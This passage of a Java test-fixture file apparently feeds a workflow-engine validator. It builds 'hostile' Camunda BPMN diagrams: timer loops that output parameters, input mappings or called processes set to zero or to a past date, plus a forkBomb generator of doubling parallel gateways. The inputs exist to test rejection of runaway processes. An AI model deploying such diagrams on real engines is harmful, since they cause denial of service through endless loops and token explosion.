                <bpmn:sequenceFlow id="F3" sourceRef="NextTopic" targetRef="Post" />""";
        List<HostileBpmn.Case> cases = new ArrayList<>();
        cases.add(new HostileBpmn.Case(
                "a loop whose timer variable an output parameter sets to zero",
                process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:task id="Post"><bpmn:extensionElements><camunda:inputOutput><camunda:outputParameter name="topicInterval">PT0S</camunda:outputParameter></camunda:inputOutput></bpmn:extensionElements>
                  <bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing>
                </bpmn:task>""" + waitOnTopicInterval),
                "topicInterval (read by NextTopic)"));
        cases.add(new HostileBpmn.Case(
                "a loop whose timer variable an output parameter copies",
                process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:task id="Post"><bpmn:extensionElements><camunda:inputOutput><camunda:outputParameter name="topicInterval">${launchPeriod}</camunda:outputParameter></camunda:inputOutput></bpmn:extensionElements>
                  <bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing>
                </bpmn:task>""" + waitOnTopicInterval),
                "topicInterval (read by NextTopic)"));
        cases.add(new HostileBpmn.Case(
                "a reminder whose duration the waiting task's own input shortens",
                process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:receiveTask id="Await"><bpmn:extensionElements><camunda:inputOutput><camunda:inputParameter name="reminderAfter">PT30S</camunda:inputParameter></camunda:inputOutput></bpmn:extensionElements>
                  <bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing>
                </bpmn:receiveTask>
                <bpmn:boundaryEvent id="Remind" attachedToRef="Await" cancelActivity="true"><bpmn:outgoing>F2</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">${reminderAfter}</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:boundaryEvent>
                <bpmn:endEvent id="End"><bpmn:incoming>F3</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Await" />
                <bpmn:sequenceFlow id="F2" sourceRef="Remind" targetRef="Await" />
                <bpmn:sequenceFlow id="F3" sourceRef="Await" targetRef="End" />"""),
                "reminderAfter (read by Remind)"));
        cases.add(new HostileBpmn.Case(
                "a loop waiting on a variable a called process may have set",
                twoProcesses("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
                <bpmn:callActivity id="Call" calledElement="helper"><bpmn:extensionElements><camunda:out variables="all" /></bpmn:extensionElements>
                  <bpmn:incoming>F0</bpmn:incoming><bpmn:outgoing>F1</bpmn:outgoing>
                </bpmn:callActivity>
                <bpmn:task id="Post"><bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing></bpmn:task>
                <bpmn:intermediateCatchEvent id="NextTopic"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">${topicInterval}</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Call" />
                <bpmn:sequenceFlow id="F1" sourceRef="Call" targetRef="Post" />
                <bpmn:sequenceFlow id="F2" sourceRef="Post" targetRef="NextTopic" />
                <bpmn:sequenceFlow id="F3" sourceRef="NextTopic" targetRef="Post" />""", helperProcess("")),
                "topicInterval (read by NextTopic)"));
        cases.add(new HostileBpmn.Case(
                "a mapping that shortens the timer of the process it calls",
                twoProcesses("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F0</bpmn:outgoing></bpmn:startEvent>
                <bpmn:callActivity id="Call" calledElement="helper"><bpmn:extensionElements><camunda:in source="warmUpMaxDays" target="topicInterval" /></bpmn:extensionElements>
                  <bpmn:incoming>F0</bpmn:incoming><bpmn:outgoing>F1</bpmn:outgoing>
                </bpmn:callActivity>
                <bpmn:endEvent id="End"><bpmn:incoming>F1</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="F0" sourceRef="Start" targetRef="Call" />
                <bpmn:sequenceFlow id="F1" sourceRef="Call" targetRef="End" />""", helperProcess("""
                <bpmn:task id="HelperPost"><bpmn:incoming>H1</bpmn:incoming><bpmn:incoming>H3</bpmn:incoming><bpmn:outgoing>H2</bpmn:outgoing></bpmn:task>
                <bpmn:intermediateCatchEvent id="HelperTick"><bpmn:incoming>H2</bpmn:incoming><bpmn:outgoing>H3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDuration xsi:type="bpmn:tFormalExpression">${topicInterval}</bpmn:timeDuration></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="H2" sourceRef="HelperPost" targetRef="HelperTick" />
                <bpmn:sequenceFlow id="H3" sourceRef="HelperTick" targetRef="HelperPost" />""")),
                "topicInterval (read by HelperTick)"));
        cases.add(new HostileBpmn.Case(
                "a loop waiting for a date the diagram set in the past",
                process("""
                <bpmn:startEvent id="Start"><bpmn:outgoing>F1</bpmn:outgoing></bpmn:startEvent>
                <bpmn:task id="Post"><bpmn:extensionElements><camunda:inputOutput><camunda:outputParameter name="nextPostAt">2020-01-01T00:00:00+08:00</camunda:outputParameter></camunda:inputOutput></bpmn:extensionElements>
                  <bpmn:incoming>F1</bpmn:incoming><bpmn:incoming>F3</bpmn:incoming><bpmn:outgoing>F2</bpmn:outgoing>
                </bpmn:task>
                <bpmn:intermediateCatchEvent id="NextPost"><bpmn:incoming>F2</bpmn:incoming><bpmn:outgoing>F3</bpmn:outgoing>
                  <bpmn:timerEventDefinition><bpmn:timeDate xsi:type="bpmn:tFormalExpression">${nextPostAt}</bpmn:timeDate></bpmn:timerEventDefinition>
                </bpmn:intermediateCatchEvent>
                <bpmn:sequenceFlow id="F1" sourceRef="Start" targetRef="Post" />
                <bpmn:sequenceFlow id="F2" sourceRef="Post" targetRef="NextPost" />
                <bpmn:sequenceFlow id="F3" sourceRef="NextPost" targetRef="Post" />"""),
                "nextPostAt (read by NextPost)"));
        return cases;
    }

    /** The hostile process and a process {@code helper} it calls, in one diagram. */
    private static String twoProcesses(String hostileBody, String helper) {
        return process(hostileBody).replace("</bpmn:definitions>", helper + "\n</bpmn:definitions>");
    }

    /** A process {@code helper}: its start leads (H1) to {@code HelperPost} if the body has one, or ends. */
    private static String helperProcess(String body) {
        String start = body.isEmpty() ? """
                        <bpmn:startEvent id="HelperStart"><bpmn:outgoing>H1</bpmn:outgoing></bpmn:startEvent>
                        <bpmn:endEvent id="HelperEnd"><bpmn:incoming>H1</bpmn:incoming></bpmn:endEvent>
                        <bpmn:sequenceFlow id="H1" sourceRef="HelperStart" targetRef="HelperEnd" />""" : """
                        <bpmn:startEvent id="HelperStart"><bpmn:outgoing>H1</bpmn:outgoing></bpmn:startEvent>
                        <bpmn:sequenceFlow id="H1" sourceRef="HelperStart" targetRef="HelperPost" />""";
        return """
                <bpmn:process id="helper" isExecutable="true" camunda:historyTimeToLive="P1D">
                %s
                %s
                </bpmn:process>""".formatted(start, body);
    }

    /** Start, then {@code levels} times a parallel gateway whose two flows both reach the next task. */
    static String forkBomb(int levels) {
        StringBuilder body = new StringBuilder(
                "<bpmn:startEvent id=\"Start\"><bpmn:outgoing>T0out</bpmn:outgoing></bpmn:startEvent>");
        String previous = "Start";
        for (int i = 1; i <= levels; i++) {
            body.append("""
                    <bpmn:parallelGateway id="G%1$d"><bpmn:incoming>T%2$dout</bpmn:incoming><bpmn:outgoing>A%1$d</bpmn:outgoing><bpmn:outgoing>B%1$d</bpmn:outgoing></bpmn:parallelGateway>
                    <bpmn:task id="T%1$d"><bpmn:incoming>A%1$d</bpmn:incoming><bpmn:incoming>B%1$d</bpmn:incoming><bpmn:outgoing>T%1$dout</bpmn:outgoing></bpmn:task>
                    <bpmn:sequenceFlow id="T%2$dout" sourceRef="%3$s" targetRef="G%1$d" />
                    <bpmn:sequenceFlow id="A%1$d" sourceRef="G%1$d" targetRef="T%1$d" />
                    <bpmn:sequenceFlow id="B%1$d" sourceRef="G%1$d" targetRef="T%1$d" />
                    """.formatted(i, i - 1, previous));
            previous = "T" + i;
        }
        body.append("""
                <bpmn:endEvent id="End"><bpmn:incoming>T%1$dout</bpmn:incoming></bpmn:endEvent>
                <bpmn:sequenceFlow id="T%1$dout" sourceRef="%2$s" targetRef="End" />""".formatted(levels, previous));
        return process(body.toString());
    }
}
